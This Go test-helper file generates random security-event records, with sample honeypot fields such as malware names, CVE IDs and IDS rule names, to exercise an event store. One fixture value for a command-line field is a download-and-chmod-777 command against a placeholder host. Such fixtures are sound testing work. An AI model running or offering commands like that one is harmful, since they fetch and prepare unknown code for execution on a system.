// SPDX-License-Identifier: Apache-2.0

package storetest

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"time"

	"haidang/event"
)

// Epoch is the time around which generated records lie.
var Epoch = event.TimeOf(time.Date(2026, 3, 14, 15, 9, 26, 0, time.UTC))

// RandomBatch makes n records that use every field and every awkward value:
// unset ones, both sides affected, IPv6, text in many scripts, several
// organisations, repeats of one folding key.
func RandomBatch(r *rand.Rand, n int) *event.Batch {
	b := new(event.Batch)
	var e event.Event
	for range n {
		RandomEvent(r, &e)
		b.Append(&e)
	}
	return b
}

// RandomEvent fills e.
func RandomEvent(r *rand.Rand, e *event.Event) {
	e.Reset()
	randomHead(r, e)
	randomEnds(r, e)
	randomDetail(r, e)
	randomCert(r, e)
}

func randomHead(r *rand.Rand, e *event.Event) {
	e.ID = bytes16(r)
	e.Time = Epoch + event.Time(r.Int64N(int64(3*time.Hour)))
	e.Ingested = Epoch + event.Time(r.Int64N(int64(4*time.Hour)))/1e6*1e6
	e.Created = maybeTime(r)
	e.Start, e.End = maybeTime(r), maybeTime(r)
	e.Kind = event.Kind(r.IntN(len(event.Kinds.Names)))
	e.Category = fewBits(r, len(event.CategoryNames))
	e.Action = pick(r, "", "alert", "login-failed", "đăng nhập", "a b%c")
	e.Outcome = event.Outcome(r.IntN(len(event.Outcomes.Names)))
	e.Dataset = pick(r, "suricata.eve", "cowrie.log", "shadowserver", "")
	e.Severity = uint8(r.IntN(7))
	binary.BigEndian.PutUint64(e.Hash[:], uint64(r.IntN(40)))
	e.Observer = pick(r, "hn-1", "hcm-2", "đà-nẵng-3", "x")
	e.ObserverType = event.ObserverType(r.IntN(len(event.ObserverTypes.Names)))
	if r.IntN(2) == 0 {
		binary.BigEndian.PutUint64(e.Participant[8:], uint64(r.IntN(5)))
	}
}

func randomEnds(r *rand.Rand, e *event.Event) {
	for _, end := range []*event.Endpoint{&e.Source, &e.Destination} {
		end.IP = randomAddr(r)
		end.Port = uint16(r.IntN(4) * r.IntN(1<<14))
		end.Domain = pick(r, "", "", "example.vn", "xn--d1acufc.example")
		end.AS = pickInt[uint32](r, 0, 1, 7552, 45899, 4200000001, 1<<32-1)
		end.Country = pickInt(r, 0, event.MustCountry("VN"), event.MustCountry("VN"), event.MustCountry("US"), event.MustCountry("DE"))
		end.Bytes = pickInt(r, 0, 1, r.Uint64N(1500), r.Uint64())
	}
	e.Transport = pickInt[uint8](r, 0, 6, 17, 255)
	e.Protocol = pick(r, "", "ssh", "http")
	switch r.IntN(3) {
	case 0:
		e.CommunityID[0], e.CommunityID[19] = byte(r.IntN(3)), byte(r.IntN(200))
	case 1:
		a, b := &e.Source, &e.Destination
		e.CommunityID = event.CommunityID(a.IP, b.IP, a.Port, b.Port, e.Transport)
	}
}

func randomDetail(r *rand.Rand, e *event.Event) {
	e.RuleID = pick(r, "", "2001219", "2024897")
	e.RuleName = pick(r, "", "ET SCAN Potential SSH Scan", "\x00␀ odd \"name\"")
	e.Techniques = subset(r, "T1110", "T1110.001", "T1059", "with blank %20")
	e.Software = pick(r, "", "Mirai", "QakBot")
	e.Vulnerabilities = subset(r, "CVE-2021-44228", "CVE-2017-0144")
	e.URL = pick(r, "", "/", "http://a.example/"+fmt.Sprint(r.IntN(1000)))
	e.DNSName = pick(r, "", "www.example.vn", fmt.Sprintf("r%d.example", r.IntN(500)))
	e.DNSType = pickInt[uint16](r, 0, 1, 28, 65535)
	if r.IntN(4) == 0 {
		e.FileSHA256[31] = byte(r.IntN(256))
	}
	e.User = pick(r, "", "root", "admin", "Nguyễn")
	e.HTTPMethod = pick(r, "", "GET", "POST")
	e.UserAgent = pick(r, "", "curl/8", "Mozilla/5.0 (…)")
	e.CommandLine = pick(r, "", "uname -a", "wget http://x; chmod 777 x", "日本語")
	e.EmailFrom = pick(r, "", "a@example.vn")
}

func randomCert(r *rand.Rand, e *event.Event) {
	e.RSIT = event.RSIT(r.IntN(len(event.RSITs.Names)))
	e.Stage = event.Stage(r.IntN(len(event.Stages.Names)))
	e.Way = event.Way(r.IntN(len(event.Ways.Names)))
	e.Lure = pick(r, "", "", "covid-19", "tax")
	e.Confidence = uint8(r.IntN(101))
	e.Affected = event.Side(r.IntN(len(event.Sides.Names)))
	e.Confirmed = event.Confirmed(r.IntN(len(event.ConfirmedValues.Names)))
	e.TLP = event.TLP(r.IntN(len(event.TLPs.Names)))
	e.PAP = event.PAP(r.IntN(len(event.PAPs.Names)))
	e.Audience = pickInt[uint32](r, 0, 3, 1<<31)
	for range r.IntN(4) {
		e.Orgs = append(e.Orgs, event.OrgMatch{
			Org:    uint32(r.IntN(4)),
			Reason: event.MatchReason(r.IntN(len(event.MatchReasons.Names))),
			Side:   event.Side(1 + r.IntN(2)),
		})
	}
	e.Sector = event.Sector(r.IntN(len(event.Sectors.Names)))
	e.Band = event.Band(r.IntN(len(event.Bands.Names)))
	e.Count = 1 + uint32(r.IntN(2)*r.IntN(50))
	e.Status = event.Status(r.IntN(len(event.Statuses.Names)))
	e.Expires = maybeTime(r)
	e.Product = pick(r, "", "cpe:2.3:a:apache:http_server:2.4.49:*:*:*:*:*:*:*")
	e.Excluded = pick(r, "", "", "", "research scanner")
	e.Replay = r.IntN(2) == 0
	e.RawSeq = uint64(1 + r.IntN(50))
	e.RawOffset = uint32(r.IntN(100))
	e.Parser = uint16(r.IntN(3))
	if r.IntN(2) == 0 {
		e.Residual = append(e.Residual, `{"flow_id":`+fmt.Sprint(r.Uint64())+`}`...)
		if e.Parser > 0 { // as a format gives it that knows what its records share
			e.Outline = "{\"flow_id\":\x1f,\"host\":\"\x1f\",\"tags\":[\x1f,\"\x1f\"]}"
			e.Residual = fmt.Appendf(e.Residual[:0], "%d\x1f%s\x1f{\"a\":1}\x1f", e.RawSeq, pick(r, "", "máy", `a\"b`))
		}
	}
}

func randomAddr(r *rand.Rand) event.Addr {
	switch r.IntN(6) {
	case 0:
		return event.Addr{}
	case 1:
		a := event.Addr{0x20, 0x01, 0x0d, 0xb8}
		a[15] = byte(1 + r.IntN(20))
		return a
	case 2:
		return event.Addr{0: 0xfd, 15: byte(1 + r.IntN(3))}
	default:
		return event.Addr{10: 0xff, 11: 0xff, 12: 203, 14: byte(r.IntN(3)), 15: byte(r.IntN(60))}
	}
}

func maybeTime(r *rand.Rand) event.Time {
	switch r.IntN(3) {
	case 0:
		return event.TimeUnset
	case 1:
		return event.Time(r.IntN(3))
	default:
		return Epoch + event.Time(r.Int64N(int64(time.Hour)))
	}
}

func bytes16(r *rand.Rand) (b event.Bytes16) {
	binary.BigEndian.PutUint64(b[:], r.Uint64())
	binary.BigEndian.PutUint64(b[8:], r.Uint64())
	return b
}

func pick(r *rand.Rand, values ...string) string { return values[r.IntN(len(values))] }

func pickInt[T any](r *rand.Rand, values ...T) T { return values[r.IntN(len(values))] }

func subset(r *rand.Rand, values ...string) []string {
	var out []string
	for _, v := range values {
		if r.IntN(4) == 0 {
			out = append(out, v)
		}
	}
	return out
}

// fewBits sets each of n bits one time in four.
func fewBits(r *rand.Rand, n int) (c event.Categories) {
	for i := range n {
		if r.IntN(4) == 0 {
			c |= 1 << i
		}
	}
	return c
}
